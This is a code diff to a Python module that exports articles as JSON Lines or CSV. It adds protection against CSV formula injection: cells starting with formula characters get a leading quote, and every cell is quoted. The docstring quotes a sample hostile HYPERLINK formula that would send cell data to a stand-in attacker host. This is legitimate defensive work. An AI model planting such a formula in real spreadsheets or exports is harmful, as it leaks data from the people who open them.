@@ -1,4 +1,10 @@
-"""Data exports: every matching article as JSON Lines or CSV, copies included, streamed."""
+"""Data exports: every matching article as JSON Lines or CSV, copies included, streamed.
+
+CSV is opened by spreadsheets, which run a cell that starts with = + - @ (or a tab or carriage return) as a
+formula: a hostile headline like `=HYPERLINK("http://evil.example/?"&A1)` would run on the reader's machine.
+So, as OWASP recommends for CSV injection, every such text cell is prefixed with a single quote (shown as text,
+not run) and every cell is quoted. JSON Lines is data for programs and is written as stored.
+"""
 
 from __future__ import annotations
 
@@ -15,6 +21,16 @@ from crosswire.storage.search import iter_matching
 DATA_FORMATS = ("jsonl", "csv")
 # CSV has no lists: authors and keywords are joined with this, which names and keywords practically never hold.
 CSV_LIST_SEPARATOR = "; "
+# What makes a spreadsheet read a cell as a formula (OWASP, "CSV Injection").
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_cell(value: Any) -> Any:
+    """A value as a CSV cell that a spreadsheet shows and never runs: text starting like a formula gets a
+    leading single quote; numbers and empty cells stay as they are."""
+    if isinstance(value, str) and value.startswith(FORMULA_START):
+        return "'" + value
+    return value
 
 
 def data_records(db: sqlite_utils.Database, selection: Selection | None,
@@ -37,14 +53,15 @@ def write_jsonl(records: Iterator[dict[str, Any]], out: TextIO) -> int:
 
 
 def write_csv(records: Iterable[dict[str, Any]], out: TextIO) -> int:
-    """Write a header and one CSV row per record (lists joined with "; "); return how many rows."""
-    writer = csv.DictWriter(out, fieldnames=EXPORT_FIELDS, lineterminator="\n")
+    """Write a header and one CSV row per record (lists joined with "; "), every cell quoted and no cell a
+    formula (see csv_cell); return how many rows."""
+    writer = csv.DictWriter(out, fieldnames=EXPORT_FIELDS, lineterminator="\n", quoting=csv.QUOTE_ALL)
     writer.writeheader()
     count = 0
     for record in records:
         row = dict(record)
         for key in ("authors", "keywords"):
             row[key] = CSV_LIST_SEPARATOR.join(row.get(key) or [])
-        writer.writerow(row)
+        writer.writerow({key: csv_cell(row.get(key)) for key in EXPORT_FIELDS})
         count += 1
     return count
